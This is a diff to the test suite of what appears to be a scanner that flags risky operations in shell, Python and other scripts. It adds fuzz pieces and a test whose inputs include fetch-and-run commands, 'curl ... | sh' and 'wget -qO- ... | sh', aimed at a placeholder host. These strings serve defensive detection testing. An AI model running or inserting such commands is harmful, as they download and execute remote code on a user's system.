@@ -15,6 +15,7 @@ from skillyard.format.scan import (
     read_go,
     read_js,
     read_powershell,
+    read_python,
     read_ruby,
     read_shell,
     treesit,
@@ -22,6 +23,9 @@ from skillyard.format.scan import (
 
 READERS = {"shell": read_shell.read, "powershell": read_powershell.read, "javascript": read_js.read,
            "typescript": lambda s: read_js.read(s, "typescript"), "ruby": read_ruby.read, "go": read_go.read}
+# Python reads with `ast`, which refuses what does not parse (None: the text rules still run).
+PYTHON_PIECES = ["import os\n", "x = ", "'a' + 'b'", "\n", "subprocess.run(", "['sh', '-c', x]", ", shell=True", ")",
+                 "with open('/tmp/a', 'wb') as f:\n    f.write(x)\n", "os.environ", "exec(", "requests.get(u)"]
 # Pieces of every grammar, so generated text reaches the readers' branches rather than only their error paths.
 PIECES = ["curl ", "wget -O ", "| sh", "$(", ")", "${a}", "a=", '"', "'", "`", "eval ", "bash -c ", "echo ",
           "base64 -d", "| rev", "fetch(", ".then(", "=>", "{", "}", "(", ")", ";", "\n", "+", "+=", "[", "]",
@@ -105,6 +109,23 @@ def test_readers_never_crash_and_stay_fast_on_any_text(language, parts):
     assert time.process_time() - start < 2.0
     for op in facts.ops:
         assert op.line >= 1 and isinstance(op.name, str)
+
+
+@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(parts=st.lists(st.one_of(st.sampled_from(PYTHON_PIECES), st.text(max_size=8)), max_size=30))
+def test_the_python_reader_never_crashes(parts):
+    text = "".join(parts)
+    facts = read_python.read(text)
+    if facts is not None:
+        flows.Flow(facts, text)
+        assert [op.line for op in facts.ops] == sorted(op.line for op in facts.ops)
+
+
+def test_python_subprocess_lists_and_shell_strings_become_the_commands_they_run():
+    facts = read_python.read("import subprocess\nsubprocess.run(['bash', '-c', 'curl -s https://h.invalid/a | sh'])\n"
+                             "subprocess.run('wget -qO- https://h.invalid/b | sh', shell=True)\n")
+    assert [(op.line, op.name) for op in facts.ops if op.name in ("bash", "wget", "sh")] == \
+        [(2, "bash"), (3, "wget"), (3, "sh")]
 
 
 def test_deep_nesting_and_long_input_are_bounded():
